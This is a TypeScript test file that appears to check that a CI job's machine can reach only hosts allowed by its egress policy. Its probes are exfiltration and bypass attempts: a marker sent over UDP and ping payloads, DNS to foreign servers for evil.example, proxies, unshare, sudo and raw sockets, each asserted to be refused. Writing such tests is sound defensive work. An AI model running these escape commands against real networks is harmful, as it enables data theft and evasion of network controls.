/**
 * The promise of a whole machine under one job (threats R1, R2, R4, R5): containers on bridges of before and after, the machine's own
 * network, namespaces of a step's making, every protocol; what stays in the machine is nobody's business; audit changes nothing.
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { requireTools } from "../lab/tools.ts";
import type { Machine } from "../lab/machine.ts";
import { type JobResult, Runner, type Step } from "./harness.ts";

const policy = `version: 1
rules:
  - { name: web, to: allowed.example }
  - { name: git, to: git.example }
  - { name: packages, to: registry.npm.example }
`;
const sender = fileURLToPath(new URL("../machine/send.py", import.meta.url));

const line = (name: string, command: string) =>
  `( ${command} ) > /dev/null 2>&1 && echo "${name}: reached" || echo "${name}: refused"`;

const told = (text: string): Record<string, string> =>
  Object.fromEntries(
    text.split("\n").flatMap((each) => (/^[^:]+: (reached|refused)$/.test(each) ? [each.split(": ")] : [])),
  );

const curl = "curl -sS --max-time 4 -o /dev/null";

describe("a machine under a job", () => {
  let runner: Runner;
  let job: JobResult;
  let marker: string;

  before(async () => {
    requireTools(["curl", "dig", "git", "ncat", "socat", "ping", "sudo", "gtlsclient"]);
    runner = await Runner.create({ policy, quic: true });
    const { host, home } = runner;
    marker = host.lab.marker();
    const hop = "$(ip neigh show 198.51.100.1 | grep -o '..:..:..:..:..:..')";
    const send = (how: string, mark: string, payload = marker) =>
      `sudo python3 ${sender} ${how} ${host.uplink} ${mark} ${payload} 198.51.100.2 203.0.113.91 9100 ${hop}`;
    // Without us each of them gets out: what the sink does not see later was held by us.
    await host.host.exec("ping", ["-c", "1", "198.51.100.1"]);
    for (const how of ["raw", "packet", "udp"]) {
      const control = host.lab.marker();
      await host.host.exec("sh", ["-c", send(how, "0xffffffff", control).replace("sudo ", "")]);
      assert.equal(await host.lab.sink.saw(control), true, `${how} must work without an agent`);
    }
    await host.lab.internet.forget();
    const probes: Step = {
      id: "probe",
      run: [
        "set +e",
        line("allowed", `${curl} https://allowed.example/`),
        line("allowed over IPv6", `${curl} -6 https://allowed.example/`),
        line("other", `${curl} https://only.example/`),
        line("an address", `${curl} -k https://203.0.113.66/${marker}`),
        line("an address over IPv6", `${curl} -k https://[2001:db8:200::66]/`),
        line(
          "HTTP/3",
          "timeout 5 gtlsclient --exit-on-all-streams-close 203.0.113.92 443 https://quic.example/ 2>&1 | grep -q ':status: 200'",
        ),
        line("UDP", `(echo ${marker}; sleep 0.5) | ncat -u -w 1 203.0.113.91 9100 | grep ${marker}`),
        line("ping", `ping -c 1 -W 2 -p ${Buffer.from(marker.slice(0, 16)).toString("hex")} 203.0.113.10`),
        line("DNS to another server", "dig +tries=1 +time=2 @203.0.113.66 evil.example | grep -q 'ANSWER: [1-9]'"),
        line("DNS over TCP", "dig +tcp +tries=1 +time=2 @203.0.113.66 evil.example | grep -q 'ANSWER: [1-9]'"),
        line("a proxy", `${curl} --proxy http://203.0.113.31:3128 https://evil.example/`),
        line("a user's namespace", `unshare -rn ${curl} -k https://203.0.113.66/`),
        line("git", `git -c http.sslCAInfo=${host.lab.caFile} ls-remote https://git.example/repo.git`),
        line(
          "npm",
          `npm view --registry https://registry.npm.example/ --cafile ${host.lab.caFile} --cache ${home}/npm lab-greeting version`,
        ),
      ].join("\n"),
    };
    const step: Step = {
      id: "root",
      run: [
        "set +e",
        line("root", `sudo ${curl} -k https://203.0.113.66/`),
        line("host network", `sudo unshare --mount --pid --fork ${curl} -k https://203.0.113.66/`),
        // What comes of them the sink says.
        send("raw", "0"),
        send("packet", "0"),
        send("packet", "0xffffffff"),
        send("udp", "0xffffffff"),
        // A service of the machine's own, and one in a container.
        line(
          "localhost",
          "(socat TCP-LISTEN:8099,fork SYSTEM:'echo HTTP/1.0 200; echo' &) ; sleep 0.5; curl -s --max-time 3 http://127.0.0.1:8099/",
        ),
        line(
          "a container from the machine",
          `(sudo ip netns exec ${host.lab.id}-c1-1 timeout 5 socat TCP-LISTEN:5432 SYSTEM:'echo ready' &); sleep 0.7; ncat --recv-only -w 3 172.30.1.2 5432 | grep ready`,
        ),
      ].join("\n"),
    };
    job = await runner.run([runner.sallyport(), probes, step]);
    await host.bridge(2, 1);
  });
  after(() => runner?.close());

  const output = (id: string) => job.results.find(({ step, phase }) => step === id && phase === "main")!.output;

  test("has no way out but what the policy allows", () => {
    assert.deepEqual(
      told(output("probe")),
      {
        allowed: "reached",
        "allowed over IPv6": "reached",
        other: "refused",
        "an address": "refused",
        "an address over IPv6": "refused",
        "HTTP/3": "refused",
        UDP: "refused",
        ping: "refused",
        "DNS to another server": "refused",
        "DNS over TCP": "refused",
        "a proxy": "refused",
        "a user's namespace": "refused",
        git: "reached",
        npm: "reached",
      },
      output("probe"),
    );
  });

  test("not for root either, nor for raw and packet sockets, and what stays in the machine is open", async () => {
    assert.deepEqual(
      told(output("root")),
      {
        root: "refused",
        "host network": "refused",
        localhost: "reached",
        "a container from the machine": "reached",
      },
      output("root"),
    );
    assert.deepEqual(await runner.host.lab.sink.find(marker), []);
    const requests = await runner.host.lab.internet.requests();
    assert.deepEqual(
      requests.filter(
        ({ server }) =>
          !["allowed.example", "git.example", "registry.npm.example", "results.github.example"].includes(server),
      ),
      [],
    );
  });

  for (const [name, at] of [
    ["before", () => runner.host.container(1, 1)],
    ["after", () => runner.host.container(2, 1)],
  ] as const) {
    test(`a bridge made ${name} the start is no way out`, async () => {
      const run = async (machine: Machine, url: string) =>
        (await machine.exec("curl", ["-sk", "--max-time", "4", url])).code;
      assert.deepEqual(
        [await run(at(), "https://allowed.example/"), (await run(at(), "https://203.0.113.66/")) !== 0],
        [0, true],
      );
    });
  }
});
